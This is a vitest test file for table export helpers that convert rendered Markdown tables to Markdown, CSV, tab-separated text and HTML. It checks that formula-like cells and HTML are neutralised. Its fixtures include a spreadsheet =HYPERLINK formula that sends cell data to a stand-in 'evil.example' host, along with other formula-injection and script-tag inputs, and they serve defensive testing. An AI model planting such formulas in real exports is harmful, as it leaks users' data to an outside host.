import { cleanup, render } from '@testing-library/react';
import type { Element } from 'hast';
import { Streamdown } from 'streamdown';
import { afterEach, expect, test } from 'vitest';
import { rehypePlugins } from '../markdown/rehypePlugins';
import { remarkPlugins } from '../markdown/remarkPlugins';
import { tableOf, toCsv, toHtml, toMarkdownTable, toTabs, type Table } from './tables';

afterEach(cleanup);

/** A table as the renderer passes it on. */
function read(markdown: string): Table {
  let found: Element | undefined;
  render(
    <Streamdown
      mode="static"
      rehypePlugins={rehypePlugins}
      remarkPlugins={remarkPlugins}
      components={{
        table: ({ node }) => {
          found = node as Element;
          return null;
        },
      }}
    >
      {markdown}
    </Streamdown>,
  );
  return tableOf(found);
}

const source = [
  '| Name | Price | **Note** |',
  '| --- | ---: | :---: |',
  '| a\\|b | 1,50 € | `x\\|y` and *more* |',
  '| [site](<https://example.org/>) | -5 | 名前 \\*no\\* |',
  '| snake_case | +3 | \\(a^2\\) |',
  '| https://example.org | www.example.org | ada@example.org |',
].join('\n');

test('a table is the same after a round through Markdown', () => {
  expect(toMarkdownTable(read(source))).toBe(`${source}\n`);
  expect(toMarkdownTable(read(toMarkdownTable(read(source))))).toBe(`${source}\n`);
});

test('a table becomes CSV, with quotes where they are needed', () => {
  expect(toCsv(read('| A | B |\n| - | - |\n| say "hi" | 1,5 |\n| two<br>lines |  |'))).toBe('A,B\r\n"say ""hi""","1,5"\r\n"two\nlines",\r\n');
});

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1)', true],
  ['+cmd', true],
  ['-2+3', true],
  ['@SUM(A1)', true],
  ['＝1+1', true],
  ['-5', false],
  ['+49 123 456', false],
  ['-1,234.50 €', false],
  ['-12 %', false],
  ['-', false],
  ['a=b', false],
])('what a spreadsheet would run is a text for it: %s', (text, runs) => {
  const table: Table = { aligns: [null], rows: [[{ markdown: 'A', text: 'A' }], [{ markdown: '', text }]] };
  const shown = runs ? `'${text}` : text;
  expect(toTabs(table)).toBe(`A\n${shown}`);
  expect(toCsv(table).replaceAll('""', '"')).toContain(shown);
  expect(toHtml(table)).toContain(`<td>${shown.replaceAll('&', '&amp;')}</td>`);
});

test('so is each line of a cell, and what separates fields elsewhere is quoted', () => {
  const table: Table = { aligns: [null], rows: [[{ markdown: '', text: 'x\n=HYPERLINK("https://evil.example")' }], [{ markdown: '', text: 'x;=1+1' }]] };
  expect(toHtml(table)).toContain("<th>x<br>'=HYPERLINK(");
  expect(toCsv(table)).toContain("x\n'=HYPERLINK(");
  expect(toCsv(table)).toContain('"x;=1+1"');
});

test('HTML of a model stays text', () => {
  const table: Table = { aligns: [null], rows: [[{ markdown: '', text: '<b>' }], [{ markdown: '', text: '<script>&' }]] };
  expect(toHtml(table)).toContain('<th>&lt;b&gt;</th>');
  expect(toHtml(table)).toContain('<td>&lt;script&gt;&amp;</td>');
});
